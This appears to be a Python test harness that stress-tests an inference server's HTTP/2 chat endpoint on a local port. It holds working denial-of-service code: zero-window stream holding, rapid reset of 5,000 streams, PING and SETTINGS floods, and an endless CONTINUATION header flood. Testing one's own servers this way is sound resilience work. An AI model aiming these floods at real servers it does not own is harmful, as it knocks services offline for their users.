"""HTTP/2 by hand, documents, connections."""

import json
import time

import frames
from attacks.core import attack, chat
from frames import H2, h2_request


@attack("10", "HTTP/2 with a window of 0, two connections, 140 streams each", quick=True, sigterm=True)
def h2_zero_window(context):
    """Held for the whole time. Others are to be answered once these answers are computed."""
    body = json.dumps(chat(max_tokens=1)).encode()
    held = [H2(context.port, window=0) for _ in range(2)]
    try:
        for connection in held:
            connection.send(b"".join(h2_request(1 + 2 * i, "POST", "/v1/chat/completions", body) for i in range(140)))
        end = max(context.until, time.monotonic() + 6)
        while time.monotonic() < end:
            for connection in held:
                connection.step(0.05)
        for connection in held:
            context.replies += [frames.Reply(status) for status in connection.status.values()]
        reply = context.server.chat("Hi", 2, timeout=20)
        if reply.status != 200:
            context.faults.append(f"while the streams are held, a new request gets {reply.status or reply.error}")
    finally:
        for connection in held:
            connection.socket.close()


@attack("10", "the same with streamed answers of 2,000 tokens")
def h2_zero_window_streams(context):
    body = json.dumps(chat(max_tokens=2000, stream=True, ignore_eos=True)).encode()
    with H2(context.port, window=0) as connection:
        connection.send(b"".join(h2_request(1 + 2 * i, "POST", "/v1/chat/completions", body) for i in range(16)))
        connection.run(lambda: False, max(1, context.left()))


@attack("", "rapid reset: streams opened and reset at once, 5,000 a round")
def h2_rapid_reset(context):
    body = json.dumps(chat(max_tokens=1)).encode()
    with H2(context.port) as connection:
        for i in range(5000):
            stream = 1 + 2 * i
            data = h2_request(stream, "POST", "/v1/chat/completions", body) + frames.frame(
                frames.RST, 0, stream, b"\0\0\0\x08"
            )
            if not connection.send(data):
                break
        connection.run(lambda: connection.goaway is not None, 0.5)
        context.notes["goaway"] = connection.goaway


@attack("", "PING and SETTINGS floods, 200,000 frames, answers never read")
def h2_control_flood(context):
    for data in (
        frames.frame(frames.PING, 0, 0, b"12345678"),
        frames.settings(streams=100),
        frames.frame(frames.WINDOW, 0, 0, b"\0\0\0\1"),
    ):
        stream = frames.connect(context.port, 5)
        try:
            stream.sendall(frames.PREFACE + frames.settings())
            for _ in range(200):
                stream.sendall(data * 1000)
        except OSError:
            pass
        finally:
            stream.close()


@attack("", "CONTINUATION flood: a header block of 50 MB that never ends")
def h2_continuation_flood(context):
    stream = frames.connect(context.port, 5)
    block = frames.literal("x-a", "b" * 16_000)
    try:
        stream.sendall(
            frames.PREFACE + frames.settings() + frames.frame(frames.HEADERS, 0, 1, frames.h2_head("GET", "/health"))
        )
        for _ in range(3000):
            stream.sendall(frames.frame(frames.CONTINUATION, 0, 1, block[:16_384]))
    except OSError:
        pass
    finally:
        stream.close()
